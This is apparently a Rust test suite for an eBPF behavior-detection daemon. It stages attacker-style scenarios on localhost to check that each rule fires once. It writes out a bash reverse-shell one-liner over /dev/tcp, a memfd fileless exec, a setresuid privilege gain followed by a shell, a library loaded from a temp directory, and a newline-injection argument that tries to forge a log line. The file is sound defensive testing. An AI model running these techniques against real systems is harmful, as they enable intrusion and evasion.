//! Real eBPF: each built-in behavior rule caught on a real scenario, exactly once, naming the
//! `seq` of the records that made it; and a benign build-and-test run that raises nothing.

mod harness;

use std::{
    fs,
    io::{Read, Write},
    net::TcpListener,
    os::unix::fs::PermissionsExt,
    path::Path,
    process::Command,
};

use harness::{bpf_available, copy_exe, event, marker, python, watched_dir, Daemon};
use serde_json::Value;

fn alerts(daemon: &Daemon, rule: &str) -> Vec<Value> {
    daemon
        .records()
        .into_iter()
        .filter(|r| event(r)["event_type"] == "behavior" && event(r)["rule"] == rule)
        .collect()
}

fn seq(r: &Value) -> u64 {
    r["seq"].as_u64().unwrap()
}

/// Wait for exactly one alert of `rule` for `pid`, then check nothing more comes.
fn one_alert(daemon: &mut Daemon, rule: &str, pid: &Value) -> Value {
    let alert = daemon.wait_for(rule, |r| {
        event(r)["event_type"] == "behavior" && event(r)["rule"] == rule && event(r)["pid"] == *pid
    });
    daemon.barrier();
    let all: Vec<Value> = alerts(daemon, rule)
        .into_iter()
        .filter(|r| event(r)["pid"] == *pid)
        .collect();
    assert_eq!(all.len(), 1, "one chain, one alert: {all:#?}");
    let e = event(&alert);
    assert!(["low", "medium", "high", "critical"].contains(&e["severity"].as_str().unwrap()));
    assert!(!e["detail"].as_str().unwrap().is_empty());
    assert!(
        seq(&alert)
            > e["related_seq"]
                .as_array()
                .unwrap()
                .iter()
                .map(|s| s.as_u64().unwrap())
                .max()
                .unwrap()
    );
    alert
}

#[test]
fn a_program_from_tmp_that_connects_out() {
    if !bpf_available("a_program_from_tmp_that_connects_out") {
        return;
    }
    let mut daemon = Daemon::start("");
    let dir = watched_dir();
    let shell = copy_exe(
        fs::canonicalize("/bin/bash").unwrap(),
        &dir.path().join(marker("implant")),
    );
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let status = Command::new(&shell)
        .args(["-c", &format!("exec 3<>/dev/tcp/127.0.0.1/{port}")])
        .status()
        .unwrap();
    assert!(status.success());
    let exec = daemon.wait_for("the exec", |r| {
        event(r)["event_type"] == "execve" && event(r)["path"] == shell.to_str().unwrap()
    });
    let pid = event(&exec)["pid"].clone();
    let connect = daemon.wait_for("the connect", |r| {
        event(r)["type"] == "connect" && event(r)["pid"] == pid && event(r)["dport"] == port
    });
    let alert = one_alert(&mut daemon, "exec_from_temp_then_connect", &pid);
    assert_eq!(
        event(&alert)["related_seq"],
        serde_json::json!([seq(&exec), seq(&connect)])
    );
    assert_eq!(event(&alert)["mitre"][0], "T1059");
}

#[test]
fn a_reverse_shell_with_its_stdio_on_a_socket() {
    if !bpf_available("a_reverse_shell_with_its_stdio_on_a_socket") {
        return;
    }
    let mut daemon = Daemon::start("");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    // The attacker's end: take the connection, make the shell leave.
    let attacker = std::thread::spawn(move || {
        let (mut conn, _) = listener.accept().unwrap();
        conn.write_all(b"exit\n").unwrap();
        let mut rest = Vec::new();
        let _ = conn.read_to_end(&mut rest);
    });
    let tag = marker("revshell");
    let status = Command::new("bash")
        .args([
            "-c",
            &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
            &tag,
        ])
        .status()
        .unwrap();
    attacker.join().unwrap();
    assert!(status.success());
    let outer = daemon.wait_for("the outer bash", |r| {
        event(r)["event_type"] == "execve" && event(r)["args"][3] == tag.as_str()
    });
    let outer_pid = event(&outer)["pid"].clone();
    let inner = daemon.wait_for("bash -i", |r| {
        event(r)["event_type"] == "execve"
            && event(r)["ppid"] == outer_pid
            && event(r)["args"][1] == "-i"
    });
    assert_eq!(
        (
            event(&inner)["stdin"].as_str(),
            event(&inner)["stdout"].as_str()
        ),
        (Some("socket"), Some("socket"))
    );
    let alert = one_alert(
        &mut daemon,
        "shell_with_socket_stdio",
        &event(&inner)["pid"].clone(),
    );
    assert_eq!(
        event(&alert)["related_seq"],
        serde_json::json!([seq(&inner)])
    );
}

#[test]
fn a_file_created_and_then_run() {
    if !bpf_available("a_file_created_and_then_run") {
        return;
    }
    let mut daemon = Daemon::start("");
    let dir = watched_dir();
    let dropped = copy_exe(
        Path::new("/usr/bin/true"),
        &dir.path().join(marker("dropped")),
    );
    assert!(Command::new(&dropped).status().unwrap().success());
    let path = dropped.to_str().unwrap();
    let created = daemon.wait_for("the create", |r| {
        event(r)["type"] == "create" && event(r)["path"] == path
    });
    let exec = daemon.wait_for("the exec", |r| {
        event(r)["event_type"] == "execve" && event(r)["path"] == path
    });
    let alert = one_alert(
        &mut daemon,
        "download_and_run",
        &event(&exec)["pid"].clone(),
    );
    assert_eq!(
        event(&alert)["related_seq"],
        serde_json::json!([seq(&created), seq(&exec)])
    );
}

#[test]
fn a_program_run_from_memory() {
    if !bpf_available("a_program_run_from_memory") {
        return;
    }
    let mut daemon = Daemon::start("");
    let arg0 = marker("fileless");
    python(&format!(
        "import os\nfd = os.memfd_create('payload', 0)\nos.write(fd, open('/usr/bin/true', 'rb').read())\nos.execve(f'/proc/self/fd/{{fd}}', [{arg0:?}], {{}})"
    ));
    let exec = daemon.wait_for("the memfd exec", |r| {
        event(r)["event_type"] == "execve" && event(r)["args"][0] == arg0.as_str()
    });
    let alert = one_alert(&mut daemon, "fileless_exec", &event(&exec)["pid"].clone());
    assert_eq!(
        event(&alert)["related_seq"],
        serde_json::json!([seq(&exec)])
    );
}

#[test]
fn a_process_that_becomes_root_and_starts_a_shell() {
    if !bpf_available("a_process_that_becomes_root_and_starts_a_shell") {
        return;
    }
    let mut daemon = Daemon::start("");
    let tag = marker("escalate");
    // Real uid 65534 with a saved uid of 0, then back to 0: a gain from non-root to root.
    python(&format!(
        "import os\nos.setresuid(65534, 65534, 0)\nos.setresuid(0, 0, 0)\nos.execv('/bin/sh', ['sh', '-c', 'true', {tag:?}])"
    ));
    let shell = daemon.wait_for("the shell", |r| {
        event(r)["event_type"] == "execve" && event(r)["args"][3] == tag.as_str()
    });
    let pid = event(&shell)["pid"].clone();
    let gain = daemon.wait_for("the gain", |r| {
        event(r)["event_type"] == "privilege" && event(r)["pid"] == pid && event(r)["new_uid"] == 0
    });
    assert_eq!(event(&gain)["uid"], 65534);
    let alert = one_alert(&mut daemon, "privilege_gain_then_shell", &pid);
    assert_eq!(
        event(&alert)["related_seq"],
        serde_json::json!([seq(&gain), seq(&shell)])
    );
}

#[test]
fn a_library_loaded_from_tmp() {
    if !bpf_available("a_library_loaded_from_tmp") {
        return;
    }
    let mut daemon = Daemon::start("");
    let dir = watched_dir();
    let lib = [
        "/lib/x86_64-linux-gnu",
        "/usr/lib/x86_64-linux-gnu",
        "/lib/aarch64-linux-gnu",
        "/usr/lib64",
    ]
    .iter()
    .map(|d| Path::new(d).join("libm.so.6"))
    .find(|p| p.exists())
    .expect("libm.so.6");
    let copy = dir.path().join(format!("lib{}.so.6", marker("evil")));
    fs::copy(lib, &copy).unwrap();
    python(&format!(
        "import ctypes\nctypes.CDLL({:?})",
        copy.to_str().unwrap()
    ));
    let load = daemon.wait_for("the load", |r| {
        event(r)["type"] == "library_load" && event(r)["path"] == copy.to_str().unwrap()
    });
    let alert = one_alert(
        &mut daemon,
        "library_from_temp",
        &event(&load)["pid"].clone(),
    );
    assert_eq!(
        event(&alert)["related_seq"],
        serde_json::json!([seq(&load)])
    );
}

#[test]
fn a_benign_build_and_test_run_raises_nothing() {
    if !bpf_available("a_benign_build_and_test_run_raises_nothing") {
        return;
    }
    let mut daemon = Daemon::start("");
    // A project where developers keep them, not in /tmp.
    fs::create_dir_all("/var/lib/owo-test").unwrap();
    let dir = tempfile::Builder::new()
        .prefix("project-")
        .tempdir_in("/var/lib/owo-test")
        .unwrap();
    fs::write(
        dir.path().join("hello.c"),
        "#include <stdio.h>\nint main(void){puts(\"hello\");return 0;}\n",
    )
    .unwrap();
    fs::write(
        dir.path().join("test_hello.py"),
        "import subprocess, unittest\nclass T(unittest.TestCase):\n    def test(self):\n        self.assertEqual(subprocess.run(['./hello'], capture_output=True).stdout, b'hello\\n')\nunittest.main()\n",
    )
    .unwrap();
    let tag = marker("benign");
    let status = Command::new("sh")
        .args(["-c", "cc -O2 -o hello hello.c && ./hello && python3 test_hello.py && ls -la && git --version", &tag])
        .current_dir(dir.path())
        .status()
        .unwrap();
    assert!(status.success());
    let root = daemon.wait_for("the run", |r| {
        event(r)["event_type"] == "execve" && event(r)["args"][3] == tag.as_str()
    });
    daemon.barrier();
    // Every process of the run: the root's descendants, by the records' ppid links.
    let records = daemon.records();
    let mut run = vec![event(&root)["pid"].as_u64().unwrap()];
    loop {
        let more: Vec<u64> = records
            .iter()
            .filter(|r| event(r)["event_type"] == "execve")
            .filter(|r| run.contains(&event(r)["ppid"].as_u64().unwrap_or(0)))
            .filter_map(|r| event(r)["pid"].as_u64())
            .filter(|pid| !run.contains(pid))
            .collect();
        if more.is_empty() {
            break;
        }
        run.extend(more);
    }
    assert!(run.len() >= 5, "the run's processes: {run:?}");
    let raised: Vec<&Value> = records
        .iter()
        .filter(|r| {
            event(r)["event_type"] == "behavior"
                && run.contains(&event(r)["pid"].as_u64().unwrap_or(0))
        })
        .collect();
    assert!(raised.is_empty(), "a benign run raised alerts: {raised:#?}");
}

#[test]
fn a_file_written_and_then_run() {
    if !bpf_available("a_file_written_and_then_run") {
        return;
    }
    let mut daemon = Daemon::start("monitor:\n  write_events: true\n");
    let dir = watched_dir();
    let path = dir.path().join(marker("written"));
    // Written into an existing file (no create), then run.
    fs::write(&path, b"").unwrap();
    fs::set_permissions(&path, fs::Permissions::from_mode(0o755)).unwrap();
    fs::OpenOptions::new()
        .write(true)
        .open(&path)
        .unwrap()
        .write_all(&fs::read("/usr/bin/true").unwrap())
        .unwrap();
    assert!(Command::new(&path).status().unwrap().success());
    let name = path.to_str().unwrap();
    let write = daemon.wait_for("the write", |r| {
        event(r)["event_type"] == "write" && event(r)["path"] == name
    });
    let exec = daemon.wait_for("the exec", |r| {
        event(r)["event_type"] == "execve" && event(r)["path"] == name
    });
    let alert = one_alert(
        &mut daemon,
        "written_then_run",
        &event(&exec)["pid"].clone(),
    );
    assert_eq!(
        event(&alert)["related_seq"],
        serde_json::json!([seq(&write), seq(&exec)])
    );
}

#[test]
fn control_characters_in_an_alert_cannot_forge_a_log_line() {
    if !bpf_available("control_characters_in_an_alert_cannot_forge_a_log_line") {
        return;
    }
    let tag = marker("forge");
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("rules.yaml");
    fs::write(
        &rules,
        format!(
            "rules:\n  - name: shows_its_command_line\n    description: a test rule\n    severity: low\n    key: process\n    detail: \"ran {{0.cmdline}}\"\n    steps:\n      - event_type: execve\n        match:\n          cmdline: {{ contains: {tag} }}\n"
        ),
    )
    .unwrap();
    let mut daemon = Daemon::start(&format!(
        "behavior:\n  rules_files: [{}]\n",
        rules.display()
    ));
    let forged = format!("FORGED-{tag}");
    assert!(Command::new("true")
        .arg(format!("{tag}\n{forged} [BEHAVIOR] all is well"))
        .status()
        .unwrap()
        .success());
    daemon.wait_for("the alert", |r| {
        event(r)["event_type"] == "behavior" && event(r)["rule"] == "shows_its_command_line"
    });
    daemon.wait_log("[BEHAVIOR] shows_its_command_line");
    let log = daemon.log();
    assert!(
        !log.lines().any(|l| l.starts_with(&forged)),
        "a line of the log starts with the argument's text:\n{log}"
    );
    assert!(
        log.contains(&format!("{tag}\\n{forged}")),
        "escaped in place:\n{log}"
    );
}
